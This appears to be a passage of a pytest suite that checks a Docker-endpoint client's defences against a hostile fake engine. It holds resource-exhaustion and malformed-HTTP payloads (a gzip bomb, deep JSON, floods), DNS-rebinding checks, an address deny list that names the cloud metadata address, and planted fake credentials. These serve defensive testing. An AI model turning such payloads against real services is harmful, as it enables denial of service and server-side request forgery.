"""The transport and the client against an endpoint that misbehaves: each way has its exact code, and an end."""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import ssl
import subprocess
import sys
import tarfile
import textwrap
import threading
import time
from collections import deque
from collections.abc import Callable, Generator, Iterator
from contextlib import ExitStack
from dataclasses import replace
from ipaddress import ip_network
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest

from chalicelib.bundle.address import AddressPolicy, Endpoint
from chalicelib.bundle.errors import BadEndpoint, ForbiddenAddress
from chalicelib.engine.endpoint import MISSING, DockerEndpoint
from chalicelib.engine.errors import (
    ClientCertificateRejected,
    ConnectionRefused,
    EndpointError,
    EndpointTimeout,
    EndpointTls,
    ImageWithoutJupyter,
    NotebookUnreachable,
)
from chalicelib.engine.probe import probe
from chalicelib.engine.pull_progress import PullStatus
from chalicelib.engine.resolve import resolve
from chalicelib.engine.transport import ANSWER_BYTES, Budget, Channel, memory_file, memory_pipe, new_context
from chalicelib.notebook import certificates
from chalicelib.notebook.certificates import HubTrust
from chalicelib.notebook.container import ImageConfig, Specification, specification
from chalicelib.session.values import Limits, Target
from tests.builders import NOW, a_session
from tests.certificates import FAR_AHEAD, LONG_AGO, Ca, Leaf
from tests.functional.hostile_engine import (
    CHUNKED,
    LOOPBACK,
    NOT_FOUND,
    Answer,
    Connection,
    HostileEngine,
    Pki,
    chunk,
    http,
    load_leaf,
    of_json,
    ping,
    pull_of,
    refusal,
    version,
)

IMAGE = "jupyter/minimal-notebook:latest"
NAME = "homeport-abc-1"
CONTAINER_ID = "ab" * 32
PULL = "POST /images/create"
Call = Callable[[DockerEndpoint], object]


@pytest.fixture(scope="module")
def pki() -> Pki:
    return Pki.new()


def an_endpoint(engine: HostileEngine, *, deadline: float = 20.0, **changes: Any) -> DockerEndpoint:
    return DockerEndpoint(engine.credentials, address=LOOPBACK, deadline=deadline, hub_name="hub", **changes)


def code_of(endpoint: DockerEndpoint, call: Call = DockerEndpoint.verify) -> str:
    with endpoint, pytest.raises(EndpointError) as caught:
        call(endpoint)
    assert caught.value.message.isprintable()
    return caught.value.code


def code_with(pki: Pki, answers: dict[str, Answer], call: Call = DockerEndpoint.verify, **changes: Any) -> str:
    with HostileEngine(pki, answers) as engine:
        return code_of(an_endpoint(engine, **changes), call)


def a_specification(**changes: Any) -> Specification:
    arguments: dict[str, Any] = {
        "hub_name": "hub",
        "image_workdir": "/home/jovyan",
        "publish_address": LOOPBACK,
        "idle_lifetime": 60.0,
    }
    return specification(a_session(**changes.pop("session", {})), **(arguments | changes))


def all_of(statuses: Iterator[PullStatus]) -> list[PullStatus]:
    return list(statuses)


# ── what a good endpoint gets ────────────────────────────────────────────────────────────────────────────────────


def test_verify_tells_the_engines_version_and_shows_the_certificate(pki: Pki) -> None:
    with HostileEngine(pki) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.verify() == ("20.10.24", "")


def test_podman_is_told_from_docker(pki: Pki) -> None:
    podman = version(Version="4.3.1", Components=[7, {"Name": "Podman Engine"}, {"Name": "Conmon"}])
    with HostileEngine(pki, {"GET /version": podman}) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.verify() == ("Podman 4.3.1", "")


def test_an_engine_that_does_not_say_what_it_can_limit_is_believed_to_keep_limits(pki: Pki) -> None:
    with HostileEngine(pki, {"GET /info": refusal(403, "denied")}) as engine, an_endpoint(engine) as endpoint:
        endpoint.check_limits(Limits(memory=1 << 30))


@pytest.mark.parametrize(
    ("said", "shown"),
    [("x" * 1000, "x" * 39 + "…"), ("20.10\n\x1b[0m\u202e", "20.10 [0m"), ("\u202e", "unknown"), (20.10, "unknown")],
)
def test_an_engines_version_is_shown_as_a_short_printable_line(pki: Pki, said: object, shown: str) -> None:
    answers: dict[str, Answer] = {"GET /version": version(Version=said)}
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.verify() == (shown, "")


def test_one_connection_serves_all_calls_of_an_endpoint(pki: Pki) -> None:
    with HostileEngine(pki, {f"GET /images/{IMAGE}/json": of_json({})}) as engine, an_endpoint(engine) as endpoint:
        endpoint.verify()
        assert endpoint.image_present(IMAGE)
        assert not endpoint.image_present("other")
        assert engine.connections == 1


@pytest.mark.parametrize(("newest", "spoken"), [("1.24", "1.24"), ("1.41", "1.41"), ("1.45", "1.45"), ("1.52", "1.45")])
def test_the_newest_api_version_that_both_know_is_spoken(pki: Pki, newest: str, spoken: str) -> None:
    with HostileEngine(pki, {"GET /_ping": ping(newest)}) as engine, an_endpoint(engine) as endpoint:
        endpoint.inspect(NAME)
        assert engine.heard[-1].path.startswith(f"/v{spoken}/")


def test_an_engine_that_tells_no_version_in_ping_is_asked_for_it(pki: Pki) -> None:
    with HostileEngine(pki, {"GET /_ping": http(b"OK")}) as engine, an_endpoint(engine) as endpoint:
        endpoint.inspect(NAME)
        assert engine.heard[-1].path.startswith("/v1.41/")


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (version("1.23"), "endpoint-too-old"),
        (version("1.60", MinAPIVersion="1.50"), "endpoint-too-new"),
        (version("2.0"), "not-a-docker-engine"),
        (version("1.41\r\nX"), "not-a-docker-engine"),
        (version(ApiVersion=141), "not-a-docker-engine"),
        (of_json({}), "not-a-docker-engine"),
        (version(Os="windows"), "endpoint-not-linux"),
        (refusal(401, "who are you"), "endpoint-forbidden"),
        (refusal(403, "authorization denied by plugin"), "endpoint-forbidden"),
        (refusal(500, "boom"), "endpoint-failed"),
        (refusal(400, "client version 1.24 is too old. Minimum supported API version is 1.44"), "endpoint-too-new"),
    ],
)
def test_versions_and_refusals_have_their_code(pki: Pki, answer: bytes, code: str) -> None:
    assert code_with(pki, {"GET /version": answer}) == code


# ── certificates ─────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("leaf", "code"),
    [
        (lambda ca: ca.issue("e", sans=(LOOPBACK,), server=True, not_before=LONG_AGO[0], not_after=LONG_AGO[1]),
         "endpoint-expired-certificate"),
        (lambda ca: ca.issue("e", sans=(LOOPBACK,), server=True, not_before=FAR_AHEAD[0], not_after=FAR_AHEAD[1]),
         "endpoint-expired-certificate"),
        (lambda _: Ca.new().issue("e", sans=(LOOPBACK,), server=True), "endpoint-wrong-certificate"),
        (lambda _: Ca.new("Another").issue("e", sans=(LOOPBACK,), server=True), "endpoint-wrong-certificate"),
        (lambda ca: ca.issue("e", sans=(LOOPBACK,), client=True), "endpoint-wrong-certificate"),
        (lambda ca: ca.issue("e", sans=("127.0.0.2", "localhost"), server=True), "endpoint-wrong-name"),
        (lambda ca: ca.issue(LOOPBACK, sans=("other.example",), server=True), "endpoint-wrong-name"),
    ],
    ids=["expired", "not-yet-valid", "wrong-ca-same-name", "wrong-ca", "not-for-servers", "wrong-name", "cn-only"],
)  # fmt: skip
def test_a_server_certificate_that_is_not_right_has_its_code(leaf: Callable[[Ca], Leaf], code: str) -> None:
    with HostileEngine(Pki.new(leaf)) as engine:
        assert code_of(an_endpoint(engine)) == code
        assert engine.heard == []


def test_a_certificate_without_any_name_is_pinned_by_the_ca_alone_and_told() -> None:
    with HostileEngine(Pki.new(lambda ca: ca.issue("swarm"))) as engine, an_endpoint(engine) as endpoint:
        assert "only your bundle's CA was checked" in endpoint.verify()[1]


def test_a_certificate_without_any_name_of_another_ca_is_refused() -> None:
    with HostileEngine(Pki.new(lambda _: Ca.new("Another").issue("swarm"))) as engine:
        assert code_of(an_endpoint(engine)) == "endpoint-wrong-certificate"


def test_the_original_name_is_verified_and_the_checked_address_connected_to() -> None:
    pki = Pki.new(lambda ca: ca.issue("engine", sans=("docker.example.org",), server=True))
    with HostileEngine(pki) as engine:
        good, bad = (pki.credentials(engine.port, host) for host in ("docker.example.org", "other.example.org"))
        with DockerEndpoint(good, address=LOOPBACK, deadline=20, hub_name="hub") as endpoint:
            endpoint.verify()
        assert engine.heard[0].headers["host"] == f"docker.example.org:{engine.port}"
        assert code_of(DockerEndpoint(bad, address=LOOPBACK, deadline=20, hub_name="hub")) == "endpoint-wrong-name"


@pytest.mark.parametrize("newest", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
def test_a_client_certificate_that_is_not_accepted_is_told_so(pki: Pki, newest: ssl.TLSVersion) -> None:
    def limited(context: ssl.SSLContext) -> None:
        context.maximum_version = newest

    with HostileEngine(pki, client_ca=Ca.new("Another").certificate, tls=limited) as engine:
        assert code_of(an_endpoint(engine)) == "client-certificate-rejected"


def test_the_reason_is_read_even_when_the_peer_has_hung_up_before_the_request(pki: Pki) -> None:
    with HostileEngine(pki, client_ca=Ca.new("Another").certificate) as engine:
        credentials = engine.credentials
        context = new_context(ca=credentials.ca, certificate=credentials.certificate, key=credentials.key)
        channel = Channel(LOOPBACK, engine.port, LOOPBACK, context, Budget(time.monotonic, 20))
        with channel.connect() as connected:
            engine.closed.wait(10)
            with pytest.raises(BrokenPipeError):
                deque((connected.send(b"GET /version HTTP/1.1\r\n\r\n") for _ in range(1000)), maxlen=0)
            with pytest.raises(ClientCertificateRejected):
                connected.recv_into(bytearray(1))


@pytest.mark.filterwarnings("ignore:ssl.TLSVersion.TLSv1_1 is deprecated:DeprecationWarning")
def test_tls_below_1_2_is_refused(pki: Pki) -> None:
    def old(context: ssl.SSLContext) -> None:
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_1

    with HostileEngine(pki, tls=old) as engine:
        assert code_of(an_endpoint(engine)) == "endpoint-tls"


def test_a_key_that_does_not_belong_to_the_certificate_is_refused_without_a_word_of_it(pki: Pki) -> None:
    with HostileEngine(pki) as engine:
        good = engine.credentials
        bad = type(good)(good.endpoint, good.ca, good.certificate, pki.server.key)
        with pytest.raises(EndpointTls) as caught:
            DockerEndpoint(bad, address=LOOPBACK, deadline=5, hub_name="hub")
        assert caught.value.__cause__ is None


# ── connections ──────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_closed_port_is_told_as_such(pki: Pki) -> None:
    with socket.create_server((LOOPBACK, 0)) as closed:
        port = closed.getsockname()[1]
    with pytest.raises(ConnectionRefused) as refused:
        DockerEndpoint(pki.credentials(port), address=LOOPBACK, deadline=5, hub_name="hub").verify()
    assert refused.value.message == (
        f"Nothing listens at 127.0.0.1:{port} (connection refused). Check that Docker is running there and listens "
        f"with TLS on port {port}"
    )


def test_an_address_without_a_way_is_unreachable(pki: Pki) -> None:
    endpoint = DockerEndpoint(pki.credentials(2376), address="255.255.255.255", deadline=5, hub_name="hub")
    assert code_of(endpoint) == "endpoint-unreachable"


@pytest.mark.parametrize(
    ("greet", "code"),
    [
        (lambda peer: peer.sendall(b"HTTP/1.0 400 Bad Request\r\n\r\nthis is not TLS"), "endpoint-not-tls"),
        (lambda peer: peer.sendall(b"SSH-2.0-OpenSSH_9.2p1\r\n" * 400), "endpoint-not-tls"),
        (lambda peer: None, "endpoint-hung-up"),
    ],
    ids=["http", "ssh", "closes"],
)
def test_a_port_that_does_not_speak_tls_is_told_as_such(
    pki: Pki, greet: Callable[[socket.socket], None], code: str
) -> None:
    def after_hello(peer: socket.socket) -> None:
        peer.recv(65536)
        greet(peer)

    with HostileEngine(pki, greet=after_hello) as engine:
        assert code_of(an_endpoint(engine)) == code


def test_silence_in_the_handshake_ends_at_the_deadline(pki: Pki) -> None:
    released = threading.Event()

    def hold(_: socket.socket) -> None:
        released.wait()

    with HostileEngine(pki, greet=hold) as engine:
        assert code_of(an_endpoint(engine, deadline=0.3)) == "endpoint-timeout"
        released.set()


def test_who_closes_after_the_handshake_hung_up(pki: Pki) -> None:
    assert code_with(pki, {"GET /version": lambda connection: None}) == "endpoint-hung-up"


# ── answers ──────────────────────────────────────────────────────────────────────────────────────────────────────

HEAD = b"HTTP/1.1 200 OK\r\n"


@pytest.mark.parametrize("status", [300, 301, 302, 303, 307, 308])
@pytest.mark.parametrize("call", [DockerEndpoint.verify, lambda endpoint: endpoint.create(a_specification())])
def test_no_redirect_is_followed(pki: Pki, status: int, call: Call) -> None:
    with HostileEngine(pki) as elsewhere:
        location = f"https://{LOOPBACK}:{elsewhere.port}/version"
        moved = http(status=status, headers=[("Location", location)])
        answers: dict[str, Answer] = {"GET /version": moved, "POST /containers/create": moved}
        assert code_with(pki, answers, call) == "endpoint-redirected"
        assert elsewhere.connections == 0


@pytest.mark.parametrize(
    "drip",
    [
        lambda c: c.drip(b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 200 + b"\r\n"),
        lambda c: c.drip(b"HTTP/1.1 100 Continue\r\n\r\n"),
        lambda c: (c.send(HEAD + b"Content-Length: 1000\r\n\r\n"), c.drip(b" ")),
        lambda c: (c.send(CHUNKED), c.drip(chunk(b" "))),
        lambda c: c.wait(),
    ],
    ids=["headers", "continues", "body", "chunks", "silence"],
)
def test_a_byte_now_and_then_does_not_hold_a_call(pki: Pki, drip: Answer) -> None:
    assert code_with(pki, {"GET /version": drip}, deadline=0.5) == "endpoint-timeout"


def test_the_deadline_is_for_all_calls_together(pki: Pki) -> None:
    now = [0.0]
    with HostileEngine(pki) as engine, an_endpoint(engine, deadline=30.0, clock=lambda: now[0]) as endpoint:
        endpoint.verify()
        now[0] = 31.0
        with pytest.raises(EndpointTimeout):
            endpoint.inspect(NAME)


def too_much(connection: Connection) -> None:
    connection.send(HEAD + f"Content-Length: {300 << 20}\r\n\r\n".encode())
    connection.flood(b" " * 65536)


def endless_chunks(connection: Connection) -> None:
    connection.send(CHUNKED)
    connection.flood(chunk(b" " * 65536))


@pytest.mark.parametrize(
    "flood",
    [
        too_much,
        endless_chunks,
        lambda c: c.flood(b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
        lambda c: (c.send(CHUNKED), c.flood(b"1;" + b"x" * 60000 + b"\r\n \r\n")),
        lambda c: (c.send(HEAD + b"Connection: close\r\n\r\n"), c.flood(b" " * 65536)),
    ],
    ids=["300-mib", "chunks", "continues", "chunk-extensions", "until-close"],
)
def test_an_answer_that_is_too_large_is_not_read_to_its_end(pki: Pki, flood: Answer) -> None:
    with HostileEngine(pki, {"GET /version": flood}) as engine:
        assert code_of(an_endpoint(engine)) == "not-a-docker-engine"
        assert engine.sent_bytes < ANSWER_BYTES + (32 << 20)  # what is in the sockets' buffers


BAD_ANSWERS: dict[str, bytes] = {
    "gzip-bomb": http(gzip.compress(b" " * (64 << 20), 1), headers=[("Content-Encoding", "gzip")]),
    "deflate": http(b"{}", headers=[("Content-Encoding", "deflate")]),
    "two-encodings": http(b"{}", headers=[("Content-Encoding", "identity"), ("Content-Encoding", "gzip")]),
    "not-json": http(b"<html>It works!</html>"),
    "empty": http(b""),
    "cut-json": http(b'{"ApiVersion": "1.41'),
    "a-list": of_json([]),
    "a-number": of_json(7),
    "deep-lists": http(b"[" * 1_000_000),
    "deep-objects": http(b'{"a":' * 700_000),
    "long-number": http(b'{"ApiVersion": ' + b"9" * 100_000 + b"}"),
    "not-utf8": http(b'{"ApiVersion": "\xff\xfe"}'),
    "utf-16": http('{"ApiVersion": 1}'.encode("utf-16")),
    "surrogates": http(b'{"ApiVersion": "\\ud800"}'),
    "101-headers": HEAD + b"X-A: b\r\n" * 101 + b"\r\n",
    "long-header": HEAD + b"X-A: " + b"b" * 1_000_000 + b"\r\n\r\n",
    "long-status": b"HTTP/1.1 200 " + b"O" * 1_000_000 + b"\r\n\r\n",
    "no-status": b"hello\r\n\r\n",
    "no-number": b"HTTP/1.1 abc OK\r\n\r\n",
    "status-999": b"HTTP/1.1 999 Hm\r\nContent-Length: 0\r\n\r\n",
    "status-101": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: tcp\r\n\r\n",
    "http-9": b"HTTP/9.9 200 OK\r\n\r\n",
    "bad-header": HEAD + b"\0\0\xff: \xff\r\n : \r\nContent-Length: x\r\n\r\n{}",
    "two-lengths": HEAD + b"Content-Length: 5\r\nContent-Length: 2\r\n\r\n{}",
    "negative-length": HEAD + b"Content-Length: -1\r\n\r\n{}",
    "bad-chunk": CHUNKED + b"zz\r\n{}\r\n",
    "negative-chunk": CHUNKED + b"-5\r\n{}\r\n",
    "no-chunk": CHUNKED + b"\r\n\r\n",
}
CUT_ANSWERS: dict[str, bytes] = {
    "short-body": http(b"{}", length=100),
    "short-chunk": CHUNKED + b"64\r\n{}",
    "cut-headers": b"HTTP/1.1 200 OK\r\nContent-Le",
}


def then_close(answer: bytes) -> Answer:
    return lambda connection: connection.send(answer)


@pytest.mark.parametrize("name", BAD_ANSWERS)
def test_an_answer_that_no_engine_gives_is_misbehaviour(pki: Pki, name: str) -> None:
    assert code_with(pki, {"GET /version": then_close(BAD_ANSWERS[name])}) == "not-a-docker-engine"


@pytest.mark.parametrize("name", CUT_ANSWERS)
def test_an_answer_that_is_cut_may_go_better_next_time(pki: Pki, name: str) -> None:
    assert code_with(pki, {"GET /version": then_close(CUT_ANSWERS[name])}) in (
        "endpoint-hung-up",
        "not-a-docker-engine",
    )


@pytest.mark.parametrize("body", [b"", b"\xff", b"[" * 100_000, b"[]", b'{"message": 7}', b'"no"', b"<h1>\x1b[31m"])
def test_an_error_answer_may_hold_anything(pki: Pki, body: bytes) -> None:
    assert code_with(pki, {"GET /version": http(body, status=500)}) == "endpoint-failed"


def test_cookies_and_other_leftovers_are_not_sent_back(pki: Pki) -> None:
    baited = http(json.dumps({"ApiVersion": "1.41"}).encode(), headers=[("Set-Cookie", "a=b"), ("Link", "<x>")])
    with HostileEngine(pki, {"GET /version": baited}) as engine, an_endpoint(engine) as endpoint:
        endpoint.verify()
        endpoint.inspect(NAME)
        assert "cookie" not in engine.heard[-1].headers


# ── the hub's own machine stays out of it ────────────────────────────────────────────────────────────────────────


def test_environment_and_docker_configuration_count_for_nothing(
    pki: Pki, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wrong = tmp_path / "wrong.pem"
    wrong.write_bytes(Ca.new("Another").certificate)
    for name in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "AWS_CA_BUNDLE"):
        monkeypatch.setenv(name, str(wrong))
    for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:9")
    monkeypatch.setenv("DOCKER_TLS_VERIFY", "")
    configuration = {
        "auths": {"https://index.docker.io/v1/": {"auth": "aHViOnNlY3JldA=="}},
        "HttpHeaders": {"X-Hub": "secret"},
        "proxies": {"default": {"httpsProxy": "http://127.0.0.1:9", "httpProxy": "http://hub:secret@127.0.0.1:9"}},
    }
    (tmp_path / "config.json").write_text(json.dumps(configuration))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    (tmp_path / ".docker").mkdir()
    (tmp_path / ".docker" / "config.json").write_text(json.dumps(configuration))
    (tmp_path / ".netrc").write_text("machine 127.0.0.1 login hub password secret\n")
    monkeypatch.setenv("HOME", str(tmp_path))
    answers: dict[str, Answer] = {
        "POST /containers/create": of_json({"Id": CONTAINER_ID}, status=201),
        PULL: pull_of(),
        f"GET /images/{IMAGE}/json": of_json({}),
    }
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        endpoint.verify()
        endpoint.create(a_specification())
        assert all_of(endpoint.pull(IMAGE)) == []
        for request in engine.heard:
            assert "secret" not in str(request.headers)
            assert "aHVi" not in str(request.headers)
            assert not request.headers.keys() & {"x-registry-auth", "x-registry-config", "authorization", "x-hub"}
            assert b"127.0.0.1:9" not in request.body
            assert request.headers["accept-encoding"] == "identity"


CHILD = """
import os, sys
written = []
def watch(event, args):
    if event == "open" and (args[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        path = os.readlink(f"/proc/self/fd/{args[0]}") if isinstance(args[0], int) else str(args[0])
        if not path.startswith("/memfd:"):
            written.append(path)
    if event in ("os.mkdir", "os.rename", "os.link", "os.symlink", "tempfile.mkstemp", "tempfile.mkdtemp",
                 "subprocess.Popen", "os.system", "os.posix_spawn"):
        written.append(event)
sys.path.insert(0, os.getcwd())
from chalicelib.bundle.credentials import Credentials
from chalicelib.engine.endpoint import DockerEndpoint
credentials = Credentials.from_bytes(sys.stdin.buffer.read())
sys.addaudithook(watch)
open_now = lambda: sorted(f"{fd}" for fd in range(64) if os.path.exists(f"/proc/self/fd/{fd}"))
before = open_now()
with DockerEndpoint(credentials, address="127.0.0.1", deadline=20, hub_name="hub") as endpoint:
    print(endpoint.verify()[0])
print([os.readlink(f"/proc/self/fd/{n}") for n in sorted(set(open_now()) - set(before))], written)
"""


def test_no_file_is_written_and_no_descriptor_left_for_the_key(pki: Pki) -> None:
    with HostileEngine(pki) as engine:
        command = [sys.executable, "-B", "-c", textwrap.dedent(CHILD)]
        done = subprocess.run(command, input=engine.credentials.to_bytes(), capture_output=True, timeout=60)
    assert done.stdout.decode().split("\n")[:2] == ["20.10.24", "[] []"], done.stderr.decode()


@pytest.mark.parametrize("offer", [memory_file, memory_pipe])
def test_openssl_reads_the_key_out_of_memory(pki: Pki, offer: Callable[[bytes], int]) -> None:
    descriptors = [offer(pki.client.certificate), offer(pki.client.key)]
    paths = [f"/proc/self/fd/{descriptor}" for descriptor in descriptors]
    try:
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).load_cert_chain(*paths)
        assert not any(os.readlink(path).startswith("/") and "memfd:" not in os.readlink(path) for path in paths)
    finally:
        for descriptor in descriptors:
            os.close(descriptor)


def test_what_does_not_fit_into_a_pipe_is_refused() -> None:
    with pytest.raises(BlockingIOError):
        memory_pipe(b"x" * (1 << 20))


# ── names ────────────────────────────────────────────────────────────────────────────────────────────────────────


class Resolver:
    """A stand-in for getaddrinfo that changes its mind: each look-up gives the next answer."""

    def __init__(self, *answers: list[str] | OSError | UnicodeError) -> None:
        self.answers = list(answers)

    def __call__(self, host: str, port: int, **_: Any) -> list[Any]:
        answer = self.answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port)) for address in answer]


PUBLIC = "93.184.215.14"


def test_every_address_of_a_name_is_checked() -> None:
    endpoint, policy = Endpoint("docker.example.org", 2376), AddressPolicy()
    assert resolve(endpoint, policy, Resolver([PUBLIC, "1.1.1.1"])) == PUBLIC
    for forbidden in ("127.0.0.1", "169.254.169.254", "10.0.0.1", "::1", "fe80::1%eth0"):
        with pytest.raises(ForbiddenAddress):
            resolve(endpoint, policy, Resolver([PUBLIC, forbidden]))


def test_denied_ports_are_not_even_looked_up() -> None:
    with pytest.raises(BadEndpoint):
        resolve(Endpoint("docker.example.org", 2375), AddressPolicy(), Resolver())


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (socket.gaierror(socket.EAI_NONAME, "unknown"), "endpoint-name-unknown"),
        (socket.gaierror(socket.EAI_AGAIN, "later"), "endpoint-unreachable"),
        (UnicodeError("label too long"), "endpoint-name-unknown"),
    ],
)
def test_a_name_that_is_not_found_has_its_code(answer: OSError | UnicodeError, code: str) -> None:
    with pytest.raises(EndpointError) as caught:
        resolve(Endpoint("docker.example.org", 2376), AddressPolicy(), Resolver(answer))
    assert caught.value.code == code


def test_a_name_that_is_bound_again_is_never_followed() -> None:
    """No name server knows a name in .invalid (RFC 6761), so a call that looked it up once more would fail."""
    name = "rebinding.invalid"
    pki = Pki.new(lambda ca: ca.issue("engine", sans=(name,), server=True))
    with HostileEngine(pki) as engine:
        credentials = pki.credentials(engine.port, name)
        policy = AddressPolicy(allowed=(ip_network("127.0.0.0/8"),))
        address = resolve(credentials.endpoint, policy, Resolver([LOOPBACK]))
        with DockerEndpoint(credentials, address=address, deadline=20, hub_name="hub") as endpoint:
            endpoint.verify()
            endpoint.inspect(NAME)
        assert len(engine.heard) == 2


# ── containers ───────────────────────────────────────────────────────────────────────────────────────────────────


IMAGE_ID = f"sha256:{'cd' * 32}"
OF_IMAGE = {
    "Entrypoint": ["tini", "-g", "--"],
    "User": "jovyan",
    "Volumes": {"/data": {}},
    "WorkingDir": "/home/jovyan",
}


def inspected(**changes: Any) -> bytes:
    """What Docker 20.10 says of the container of `a_specification`; `host`, `config`, `mounts` change parts of it."""
    spec = a_specification()
    labels = dict(spec.labels) | changes.pop("labels", {})
    state = {"Status": "running", "Running": True, "ExitCode": 0, "OOMKilled": False} | changes.pop("state", {})
    config = {"Labels": labels, "Image": IMAGE, "Cmd": list(spec.command), **OF_IMAGE} | changes.pop("config", {})
    host = DOCKERS_WORDS | changes.pop("host", {})
    mounts = changes.pop("mounts", [OUR_MOUNT])
    found = {"Id": CONTAINER_ID, "Image": IMAGE_ID, "State": state, "Config": config, "HostConfig": host}
    return of_json({**found, "Mounts": mounts, **changes})


OUR_MOUNT: dict[str, object] = {
    "Type": "volume", "Name": f"homeport-{a_session().sid}", "Source": "/var/lib/docker/volumes/x/_data",
    "Destination": "/home/jovyan/work", "Driver": "local", "Mode": "z", "RW": True, "Propagation": "",
}  # fmt: skip
DOCKERS_WORDS: dict[str, object] = {
    "Binds": None, "NetworkMode": "default", "PortBindings": {"8888/tcp": [{"HostIp": LOOPBACK, "HostPort": ""}]},
    "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}, "VolumesFrom": None, "CapAdd": None, "IpcMode": "private",
    "PidMode": "", "Privileged": False, "PublishAllPorts": False, "SecurityOpt": None, "UTSMode": "", "UsernsMode": "",
    "Memory": 0, "NanoCpus": 0, "CpuPeriod": 0, "CpuQuota": 0, "Devices": None, "DeviceCgroupRules": None,
    "DeviceRequests": None, "Mounts": [{"Type": "volume", "Source": "x", "Target": "/home/jovyan/work"}],
}  # fmt: skip


def ports(*bindings: object) -> dict[str, object]:
    return {"NetworkSettings": {"Ports": {"8888/tcp": list(bindings)}}}


@pytest.mark.parametrize(
    "port",
    [0, 22, 80, 1023, 65536, -1, 8888.0, True, "80", "-8888", "0x22b8", "８８８８", " 8888", "8888\n", "", "1e4",
     "99999999999999999999", None, [], {}, "8888/tcp", 10**30],
)  # fmt: skip
def test_only_a_possible_port_is_believed(pki: Pki, port: object) -> None:
    answers: dict[str, Answer] = {f"GET /containers/{NAME}/json": inspected(**ports({"HostIp": "", "HostPort": port}))}
    assert code_with(pki, answers, lambda endpoint: endpoint.published(NAME)) == "not-a-docker-engine"


@pytest.mark.parametrize("port", ["1024", "32768", 65535])
def test_the_published_is_that_of_the_addresss_family(pki: Pki, port: object) -> None:
    both = ports({"HostIp": "::", "HostPort": "40000"}, "junk", {"HostIp": "0.0.0.0", "HostPort": port})
    answers: dict[str, Answer] = {f"GET /containers/{NAME}/json": inspected(**both)}
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.published(NAME) == Target(LOOPBACK, int(str(port)))


@pytest.mark.parametrize(
    ("node", "address", "port"),
    [
        (
            {"ID": "ODAI:IC6Q", "IP": "198.51.100.7", "Addr": "198.51.100.7:2376", "Name": "node-1"},
            "198.51.100.7",
            32768,
        ),
        ({"IP": "2001:db8::7"}, "2001:db8::7", 40000),
        ({"IP": "169.254.169.254"}, "169.254.169.254", 32768),
        ({"IP": "<b>"}, "<b>", 32768),
        ({"IP": ""}, LOOPBACK, 32768),
        ({"IP": ["198.51.100.7"]}, LOOPBACK, 32768),
        ({}, LOOPBACK, 32768),
        ("node-1", LOOPBACK, 32768),
        (None, LOOPBACK, 32768),
    ],
)
def test_a_cluster_publishes_on_its_node_whose_address_is_yet_to_be_checked(
    pki: Pki, node: object, address: str, port: int
) -> None:
    both = ports({"HostIp": "::", "HostPort": "40000"}, {"HostIp": "198.51.100.7", "HostPort": "32768"})
    answers: dict[str, Answer] = {f"GET /containers/{NAME}/json": inspected(Node=node, **both)}
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.published(NAME) == Target(address, port)


@pytest.mark.parametrize("settings", [{}, {"NetworkSettings": []}, {"NetworkSettings": {"Ports": {"8888/tcp": None}}}])
def test_a_port_that_is_not_published_yet_is_asked_for_again(pki: Pki, settings: dict[str, object]) -> None:
    answers: dict[str, Answer] = {f"GET /containers/{NAME}/json": inspected(**settings)}
    assert code_with(pki, answers, lambda endpoint: endpoint.published(NAME)) == "endpoint-failed"


def test_the_port_of_a_container_that_is_gone_is_not_found(pki: Pki) -> None:
    assert code_with(pki, {}, lambda endpoint: endpoint.published(NAME)) == "container-missing"


@pytest.mark.parametrize(
    ("state", "seen"),
    [
        ({}, ("running", True, None, False)),
        ({"Status": "exited", "Running": False, "ExitCode": 137, "OOMKilled": True}, ("exited", False, 137, True)),
        ({"Status": "created", "Running": False}, ("created", False, 0, False)),
        ({"Status": "stopped", "Running": False, "ExitCode": 3}, ("exited", False, 3, False)),
        ({"Status": "paused"}, ("paused", False, 0, False)),
        ({"Status": "<b>", "Running": "yes", "ExitCode": "0", "OOMKilled": 1}, ("unknown", False, None, False)),
        ({"Status": [], "Running": None, "ExitCode": 10**40, "OOMKilled": {}}, ("unknown", False, None, False)),
    ],
)
def test_only_known_words_about_a_containers_state_are_believed(
    pki: Pki, state: dict[str, object], seen: tuple[object, ...]
) -> None:
    answers: dict[str, Answer] = {f"GET /containers/{NAME}/json": inspected(state=state)}
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        status = endpoint.inspect(NAME)
        assert (status.status, status.running, status.exit_code, status.oom) == seen
        assert endpoint.inspect("homeport-other-1") == MISSING


def created_body(pki: Pki, spec: Specification, api: str = "1.41") -> dict[str, Any]:
    answers: dict[str, Answer] = {
        "GET /_ping": ping(api),
        "POST /containers/create": of_json({"Id": CONTAINER_ID}, status=201),
    }
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        endpoint.create(spec)
